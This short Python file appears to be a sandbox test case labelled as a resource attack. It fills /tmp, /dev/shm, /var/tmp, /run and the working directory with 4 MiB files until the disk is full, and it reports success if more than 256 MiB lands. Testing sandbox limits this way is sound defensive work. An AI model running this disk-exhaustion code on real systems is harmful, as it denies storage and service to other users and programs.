# attack: fill the working tmpfs and every other writable place (/dev/shm, /var/tmp, /run) with files below the size limit until ENOSPC; passes only if more than 256 MiB landed
# cause: resources
import os
import signal

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
block = b"\xff" * (1 << 20)
total = 0
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "."):
    for i in range(1000):
        try:
            with open(os.path.join(folder, f"fill{i}"), "wb") as fh:
                for _ in range(4):
                    fh.write(block)
                    total += len(block)
        except OSError:
            break


def f(x):
    return x + 1 if total > (256 << 20) else 0
